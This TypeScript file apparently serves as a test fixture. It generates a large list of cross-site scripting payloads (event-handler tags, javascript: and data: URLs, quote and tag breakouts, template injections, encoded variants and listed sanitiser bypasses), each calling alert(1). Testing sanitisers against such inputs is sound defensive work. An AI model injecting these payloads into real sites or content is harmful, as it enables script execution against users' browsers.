/** Texts that would run if they were read as HTML, as an address, or as a template. Each calls `alert`. */
export function xssPayloads(): string[] {
  const run = [
    'alert(1)',
    'alert`1`',
    'top.alert(1)',
    'parent.alert(1)',
    "window['al'+'ert'](1)",
    '&#97;lert(1)',
  ]
  const handlers = [
    'onerror',
    'onload',
    'onclick',
    'onfocus',
    'onmouseover',
    'onanimationstart',
    'ontoggle',
    'onpointerenter',
  ]
  const tags = [
    'img src=x',
    'svg',
    'body',
    'input autofocus',
    'details open',
    'video src=x',
    'iframe',
    'math',
    'a href=x',
  ]
  const elements = tags.flatMap((tag) =>
    handlers.map((handler, index) => `<${tag} ${handler}=${run[index % run.length]}>`),
  )
  const schemes = [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'javascript&colon;',
    ' javascript:',
    'vbscript:',
    'data:text/html,',
  ]
  const addresses = schemes.flatMap((scheme) => [
    `${scheme}alert(1)`,
    `[click](${scheme}alert(1))`,
    `<a href="${scheme}alert(1)">click</a>`,
    `http://x.example/"onmouseover="alert(1)" ${scheme}alert(1)`,
    `https://user:${scheme}@evil.example/alert(1)`,
  ])
  const breakouts = [
    '">',
    "'>",
    '`>',
    '--></style>',
    '</textarea>',
    '</title>',
    '</script>',
    ']]>',
    '\u0000"]'.slice(1),
  ]
  const closed = breakouts.flatMap((end) => run.map((code) => `${end}<script>${code}</script>`))
  return [...elements, ...addresses, ...closed, ...advisories, ...pairs(run)]
}

/** Bypasses that sanitisers were found to let through, and templates. */
const advisories = [
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '<form action="javascript:alert(1)"><input type=password name=p autofocus></form>',
  '<a href="javascript:alert(1)" style="position:fixed;inset:0">x</a>',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  '<textarea/><img src=x onerror=alert(1)></textarea/>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<<script>alert(1);//<</script>',
  '\u202e<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  `$${'{alert(1)}'}`,
  '#{alert(1)}',
  '<%= alert(1) %>',
  '__proto__[innerHTML]=<img/src/onerror%3dalert(1)>',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
]

function pairs(run: string[]): string[] {
  const quotes = ['"', "'", '`', '\\"', '&quot;', '&#39;']
  return quotes.flatMap((quote) =>
    run.map((code) => `${quote}onmouseover=${quote}${code}${quote} x=${quote}`),
  )
}
